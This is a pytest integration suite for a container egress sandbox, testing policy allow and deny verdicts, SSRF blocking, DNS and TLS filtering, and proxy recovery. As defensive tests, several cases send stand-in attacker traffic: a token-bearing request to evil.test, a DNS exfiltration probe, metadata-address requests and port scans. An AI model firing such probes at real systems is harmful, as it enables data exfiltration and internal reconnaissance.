# SPDX-License-Identifier: Apache-2.0
"""Egress as a session meets it: the real launcher and navigator-egress in a pod of runc containers, a world of our own outside."""

import json
import subprocess
import time

import outside
import pytest
from egress import curl, events, heard, wait_for
from runc_pod import Pod

POLICY = """
version: 1
filesystem_policy:
  read_only: [/usr, /lib, /etc, /proc]
  read_write: [/sandbox, /tmp, /dev/null]
process: {run_as_user: sandbox, run_as_group: sandbox}
network_policies:
  web:
    name: web
    endpoints:
      - {host: web.test, ports: [80, 443]}
      - {host: "*.wild.test", port: 443}
      - {host: database.test, port: 5432}
      - {host: mixed.test, port: 80}
      - {host: metadata.test, port: 80}
      - {host: loop.test, port: 80}
      - {host: 127.0.0.1, port: 80}
      - {host: gone.test, port: 80}
      - {host: silent.test, port: 80}
      - {host: localhost, port: 8080}
      - {host: localhost, port: 8443}
      - {host: 10.1.2.3, port: 80}
      - {host: skipped.test, port: 443, tls: skip}
    binaries: [{path: "/**"}]
  range:
    endpoints:
      - {host: "", port: 8080, allowed_ips: [10.2.0.0/16]}
      - {host: "", port: 6443, allowed_ips: [10.2.0.0/16]}
    binaries: [{path: "/**"}]
  only_git:
    endpoints: [{host: git.test, port: 443}]
    binaries: [{path: /usr/bin/git}]
  only_curl:
    endpoints: [{host: curl.test, port: 80}]
    binaries: [{path: /usr/bin/curl}]
  learning:
    endpoints: [{host: learning.test, port: 80, enforcement: audit}]
    binaries: [{path: /usr/bin/git}]
"""

PUBLIC = "203.0.113.10"
WORLD = {
    "addresses": [f"{PUBLIC}/32", "10.1.2.3/32", "10.2.0.5/32"],
    "names": {
        "web.test": [PUBLIC], "api.wild.test": ["93.184.216.34"], "database.test": [PUBLIC], "git.test": [PUBLIC], "curl.test": [PUBLIC],
        "learning.test": [PUBLIC], "skipped.test": [PUBLIC], "gone.test": ["203.0.113.10"], "mixed.test": [PUBLIC, "127.0.0.1"],
        "metadata.test": ["169.254.169.254"], "loop.test": ["127.0.0.1"], "silent.test": [],
    },
    "tcp": [[PUBLIC, 80, "http"], [PUBLIC, 443, "tls"], [PUBLIC, 5432, "banner"], ["10.1.2.3", 80, "http"], ["10.2.0.5", 8080, "http"],
            ["127.0.0.1", 8080, "http"], ["127.0.0.1", 9090, "http"]],
}


@pytest.fixture(scope="module")
def pod(build, tmp_path_factory):
    folder = tmp_path_factory.mktemp("world")
    certificate = [str(folder / "crt"), str(folder / "key")]
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "2", "-subj", "/CN=web.test",
                    "-keyout", certificate[1], "-out", certificate[0]], check=True, capture_output=True)
    (folder / "policy.yaml").write_text(POLICY)
    pod = Pod(build, policy=["--policy", folder / "policy.yaml"])
    pod.world = outside.start(pod.pause, {**WORLD, "certificate": certificate}, folder)
    pod.folder = folder
    (pod.root / "etc/resolv.conf").write_text("nameserver 10.96.0.10\nsearch default.svc.test\noptions ndots:1\n")
    try:
        pod.start()
        wait_for(lambda: events(pod, "policy_in_force"))
        yield pod
    finally:
        print(pod.log("sidecar"), *pod.audit(), sep="\n")
        pod.world.kill()
        pod.destroy()


def test_N2_host_and_port_of_a_rule(pod, shell):
    assert curl(shell, "https://web.test/")[:2] == (200, 200)
    line = heard(pod, host="web.test", port="443", verdict="allowed", via="proxy")
    assert line["policy"] == "web" and line["binary"] == "/usr/bin/curl" and line["address"] == PUBLIC and line["container"] == "workload"
    assert curl(shell, "http://web.test/")[0] == 200


def test_N1_no_rule_is_403_and_says_what_is_missing(pod, shell):
    status, connect, body, code = curl(shell, "https://evil.test/")
    assert (connect, code) == (403, 56)
    body = json.loads(curl(shell, "http://evil.test/secret?token=1")[2])
    assert body["error"] == "policy_denied" and body["host"] == "evil.test" and body["binary"] == "/usr/bin/curl"
    assert body["missing_rule"]["new_rule"]["endpoints"] == [{"host": "evil.test", "port": 80}]
    line = heard(pod, host="evil.test", port="80", verdict="denied")
    assert line["reason"] == "no_host" and "token" not in json.dumps(line)
    assert "evil.test" not in outside.queried(pod.folder), "a name that no rule allows was asked for"


def test_N2_other_port_is_denied(shell):
    body = json.loads(curl(shell, "http://web.test:81/")[2])
    assert body["reason"] == "no_port" and body["allowed"]["ports"] == [80, 443]


def test_N3_rules_are_for_their_programs(pod, shell):
    body = json.loads(curl(shell, "http://git.test:443/")[2])
    assert body["reason"] == "no_binary" and body["allowed"]["binaries"] == ["/usr/bin/git"]
    assert curl(shell, "http://curl.test/")[0] == 200


def test_EG1_learning_lets_through_and_says_so(pod, shell):
    assert curl(shell, "http://learning.test/")[0] == 200
    assert heard(pod, host="learning.test", verdict="let_through")["reason"] == "no_binary"


def test_N5_N11_bad_requests(shell):
    def say(text):
        script = "import socket,sys;s=socket.create_connection(('127.0.0.1',3128),5);s.sendall(sys.argv[1].encode().decode('unicode_escape').encode());print(s.recv(100).decode().split()[1])"
        done = shell("/usr/bin/python3", "-c", script, text)
        assert done.err == b"", done.err
        return done.out.decode().strip()

    assert say("GET https://web.test/ HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n") == "400"
    assert say("CONNECT web.test HTTP/1.1\\r\\n\\r\\n") == "400"
    assert say("CONNECT 0x7f000001:80 HTTP/1.1\\r\\n\\r\\n") == "400"
    assert say("CONNECT web.test:443 HTTP/1.1\\r\\n" + "A: b\\r\\n" * 1500) == "431"
    assert say("CONNECT database.test:5433 HTTP/1.1\\r\\n\\r\\n") == "403"
    assert say("POST http://web.test/ HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n") == "411"


def test_N11_upstream_that_does_not_answer(shell):
    assert curl(shell, "http://silent.test/")[0] == 502


def test_N7_wildcards(shell):
    assert curl(shell, "https://wild.test/")[1] == 403
    assert curl(shell, "https://a.b.wild.test/")[1] == 403


@pytest.mark.parametrize("url, reason", [
    ("http://127.0.0.1/", "address_class"), ("http://metadata.test/", "address_class"), ("http://169.254.169.254/", "address_class"),
    ("http://loop.test/", "address_class"), ("http://mixed.test/", "address_class"), ("http://10.9.9.9:8080/", "address_not_listed"),
    ("http://10.2.0.5:6443/", "guarded_port"), ("http://10.2.0.5:8080/", None), ("http://10.1.2.3/", None), ("http://web.test/", None),
    ("http://[::ffff:10.9.9.9]:8080/", "address_not_listed"), ("http://[fe80::1]/", "address_class"),
])
def test_S1_S2_S3_S5_S6_S7_addresses(pod, shell, url, reason):
    status, _, body, _ = curl(shell, url)
    if reason is None:
        assert status == 200
        return
    assert status == 403 and json.loads(body)["reason"] == reason
    if reason == "address_class":
        assert heard(pod, engine="ssrf", reason=reason)


def test_TE1_without_any_proxy_setting(pod, shell):
    assert curl(shell, "https://web.test/", proxy=False)[0] == 200
    assert heard(pod, host="web.test", port="443", via="transparent", verdict="allowed")["binary"] == "/usr/bin/curl"
    done = shell("/usr/bin/python3", "-c", "import socket;print(socket.create_connection(('database.test',5432),5).recv(100))")
    assert b"SSH-2.0-world" in done.out, done.err
    assert heard(pod, host="database.test", port="5432", verdict="allowed")["binary"].startswith("/usr/bin/python3")


def test_TE2_denied_names_ports_and_addresses(pod, shell):
    script = "import socket,sys\ntry: socket.create_connection((sys.argv[1],int(sys.argv[2])),3)\nexcept OSError as e: print(type(e).__name__, e.errno)"

    def connect(host, port):
        begin = time.monotonic()
        out = shell("/usr/bin/python3", "-c", script, host, str(port)).out.decode()
        assert time.monotonic() - begin < 3
        return out

    assert "gaierror -2" in connect("evil.test", 443)
    assert "ConnectionRefusedError" in connect("database.test", 5433)
    assert "ConnectionRefusedError" in connect("1.2.3.4", 4444)
    assert heard(pod, via="direct", address="1.2.3.4", port="4444", protocol="tcp")["reason"] == "no_port"
    done = shell("/usr/bin/curl", "-s", "--noproxy", "*", "--max-time", "5", "http://1.2.3.4/")
    assert done.code in (7, 52, 56)
    assert heard(pod, via="transparent", host="1.2.3.4", port="80", verdict="denied")


def test_N9_nothing_but_tcp(pod, shell):
    script = "import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.connect(('8.8.8.8',4433));s.send(b'x');import time;time.sleep(.1)\ntry: s.send(b'y')\nexcept OSError as e: print(e.errno)"
    assert shell("/usr/bin/python3", "-c", script).out.strip() == b"111"
    assert heard(pod, via="direct", protocol="udp", address="8.8.8.8", port="4433")
    assert b"111" in shell("/usr/bin/python3", "-c", script.replace("AF_INET", "AF_INET6").replace("8.8.8.8", "2001:db8::8")).out


def dns(shell, name, kind, server="8.8.8.8", tcp=False):
    """(rcode, number of answers, the answers' bytes)"""
    script = """
import socket,struct,sys
name,kind,server,tcp=sys.argv[1],int(sys.argv[2]),sys.argv[3],sys.argv[4]=='True'
q=struct.pack('>HHHHHH',7,0x100,1,0,0,0)+b''.join(bytes([len(l)])+l.encode() for l in name.split('.'))+b'\\0'+struct.pack('>HH',kind,1)
f=socket.AF_INET6 if ':' in server else socket.AF_INET
s=socket.socket(f,socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM);s.settimeout(3);s.connect((server,53))
s.send((struct.pack('>H',len(q)) if tcp else b'')+q);a=s.recv(4096)
a=a[2:] if tcp else a
print(struct.unpack('>H',a[2:4])[0]&15,struct.unpack('>H',a[6:8])[0],a[12:].hex())
"""
    done = shell("/usr/bin/python3", "-c", script, name, str(kind), server, str(tcp))
    assert done.out, (server, tcp, done.err)
    rcode, count, data = done.out.decode().split()
    return int(rcode), int(count), bytes.fromhex(data)


def test_TE3_names(pod, shell):
    for server in ("8.8.8.8", "10.96.0.10", "2001:db8::53"):
        assert dns(shell, "web.test", 1, server)[:2] == (0, 1)
    code, count, data = dns(shell, "web.test", 1, tcp=True)
    assert (code, count) == (0, 1) and data[-4] == 198 and data[-3] in (18, 19)
    assert dns(shell, "web.test", 28)[:2] == (0, 1)
    for kind in (65, 64, 16, 15, 33):
        assert dns(shell, "web.test", kind)[:2] == (0, 0)
    assert dns(shell, "web.test", 255)[:2] == (0, 1)
    assert dns(shell, "exfiltrated-data.evil.test", 1)[:2] == (3, 0)
    assert heard(pod, engine="names", host="exfiltrated-data.evil.test", verdict="denied")
    reverse = ".".join(str(byte) for byte in reversed(data[-4:])) + ".in-addr.arpa"
    assert b"\x03web\x04test" in dns(shell, reverse, 12)[2]
    assert dns(shell, "4.3.2.1.in-addr.arpa", 12)[0] == 3
    assert dns(shell, "secret-bits.wild.test", 1)[:2] == (0, 1)
    assert heard(pod, engine="names", host="secret-bits.wild.test", reason="wildcard_name")
    asked = outside.queried(pod.folder)
    assert not [name for name in asked if "evil" in name or "secret" in name], asked


def test_TE5_address_configuration_and_own_ports(pod, shell):
    script = """
import socket
print(socket.getaddrinfo('web.test',443,0,socket.SOCK_STREAM,0,socket.AI_ADDRCONFIG)[0][4])
s=socket.create_server(('127.0.0.1',5432));c=socket.create_connection(('127.0.0.1',5432));print('own',s.accept()[1][0])
met=0
for i in range(3000):
    c=socket.socket();c.settimeout(1)
    if c.connect_ex(('198.51.100.9',40000+i%20000))==0: met+=1
    c.close()
print('met',met)
"""
    done = shell("/usr/bin/python3", "-c", script, limit=30)
    assert b"'198." in done.out and b"own 127.0.0.1" in done.out and b"met 0" in done.out, (done.out, done.err)


def test_TE6_TE4_the_role_is_killed(pod, shell):
    gateway = shell.gateway
    tunnel = gateway.start(["/usr/bin/python3", "-c", "import socket;s=socket.create_connection(('database.test',5432));s.recv(50);print('up',flush=True);print('end',s.recv(50))"], flags=0b1110)
    gateway.wait_started(tunnel)
    heard(pod, host="database.test", verdict="allowed")
    time.sleep(0.5)
    role = [pid for pid, (command, _) in pod.processes().items() if "navigator-egress" in command][0]
    subprocess.run(["kill", "-9", str(role)], check=True)
    script = """
import socket
for a in (('127.0.0.1',3128),('0.0.0.0',3128),('0.0.0.0',5432),('127.0.0.1',53)):
    s=socket.socket()
    try: s.bind(a);s.listen();print('taken',a)
    except OSError as e: print(e.errno)
"""
    out = shell("/usr/bin/python3", "-c", script).out.decode()
    assert "taken" not in out, out
    wait_for(lambda: len(events(pod, "process_ready", process="egress")) >= 2, 2)
    assert curl(shell, "https://web.test/", proxy=False)[0] == 200


def test_TE8_localhost_of_the_pod(pod, shell):
    assert curl(shell, "http://localhost:8080/", proxy=False)[0] == 200
    assert curl(shell, "http://localhost:9090/", proxy=False)[3] == 7
    assert curl(shell, "http://localhost:8443/", proxy=False)[3] in (7, 52, 56)
    assert heard(pod, reason="own_port", port="8443")


def openssl(shell, server, name):
    options = ["-servername", name] if name else ["-noservername"]
    done = shell("/bin/sh", "-c", 'exec openssl s_client -brief "$@" </dev/null', "sh", "-connect", server, *options)
    return (done.out + done.err).decode()


def test_EG2_tls_server_names(pod, shell):
    assert "CONNECTION ESTABLISHED" in openssl(shell, "web.test:443", "web.test")
    assert "access denied" in openssl(shell, "web.test:443", "evil.test")
    assert heard(pod, engine="tls", reason="server_name", host="web.test")
    assert "access denied" in openssl(shell, "web.test:443", "")
    assert "CONNECTION ESTABLISHED" in openssl(shell, "skipped.test:443", "evil.test")


def test_EN14_the_workload_itself(pod):
    done = subprocess.run(["nsenter", "--all", "--target", str(pod.workload), "/usr/bin/curl", "-s", "--proxy", "http://127.0.0.1:3128", "http://curl.test/"],
                          capture_output=True, text=True, check=False)
    assert "head:GET / HTTP/1.1" in done.stdout, done
    assert heard(pod, via="pod-proxy", host="curl.test", verdict="allowed")["container"] == "workload"
    done = subprocess.run(["nsenter", "--all", "--target", str(pod.workload), "/usr/bin/curl", "-s", "--proxy", "http://127.0.0.1:3128", "http://evil.test/"],
                          capture_output=True, text=True, check=False)
    assert json.loads(done.stdout)["reason"] == "no_host"
